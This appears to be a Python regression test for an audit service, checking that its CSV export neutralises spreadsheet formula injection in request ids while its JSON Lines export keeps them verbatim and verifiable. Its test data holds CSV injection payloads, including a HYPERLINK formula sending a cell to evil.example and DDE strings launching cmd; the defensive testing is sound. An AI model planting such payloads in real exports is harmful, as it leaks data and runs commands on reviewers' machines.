"""CSV formula injection: agent-chosen values are text in the CSV export, verbatim in JSON Lines.

Issue 19: a request id such as `=HYPERLINK(...)` was written verbatim into a CSV cell, where
a spreadsheet runs it as a formula when the auditor opens the export.
"""

from __future__ import annotations

import csv
import io
import json

from cryptography.hazmat.primitives.serialization import load_pem_public_key

from signoff import pb
from signoff.export import verify_export
from signoff_client._gen import audit_pb2_grpc, decision_pb2_grpc

from ..e2e.conftest import ServerHandle

A = pb.audit
HOSTILE = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def _md(who: str) -> tuple[tuple[str, str], ...]:
    return (("authorization", f"Bearer {who}"),)


def _plant(server: ServerHandle) -> None:
    stub = decision_pb2_grpc.DecisionServiceStub(server.channel())
    for request_id in HOSTILE:
        req = pb.common.ActionRequest(request_id=request_id)
        req.action.name = "email.send"
        req.principal.id = "mallory"
        stub.Evaluate(req, metadata=_md("mallory"), timeout=30)


def _export(server: ServerHandle, fmt: int) -> bytes:
    stub = audit_pb2_grpc.AuditServiceStub(server.channel())
    req = A.ExportAuditRequest(format=fmt, filter=A.AuditFilter(types=["decision"]))
    return b"".join(c.data for c in stub.ExportAudit(req, metadata=_md("ann"), timeout=30))


def test_csv_export_cells_starting_a_formula_are_neutralised(server: ServerHandle) -> None:
    _plant(server)
    data = _export(server, A.EXPORT_FORMAT_CSV).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(data, newline="")))
    assert sorted(r["request_id"] for r in rows) == sorted("'" + h for h in HOSTILE)
    for hostile in HOSTILE:  # quoted as well as prefixed, as OWASP advises
        assert "\"'" + hostile.replace('"', '""') + '"' in data
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())


def test_the_jsonl_export_keeps_the_values_verbatim_and_verifies(server: ServerHandle) -> None:
    _plant(server)
    data = _export(server, A.EXPORT_FORMAT_JSONL)
    lines = [json.loads(line) for line in data.splitlines()]
    assert sorted(e["request_id"] for e in lines if "seq" in e) == sorted(HOSTILE)
    stub = audit_pb2_grpc.AuditServiceStub(server.channel())
    resp = stub.GetCheckpoints(A.GetCheckpointsRequest(), metadata=_md("ann"))
    key = load_pem_public_key(resp.public_key_pem.encode())
    report = verify_export(data.splitlines(keepends=True), key)
    assert report.ok, report
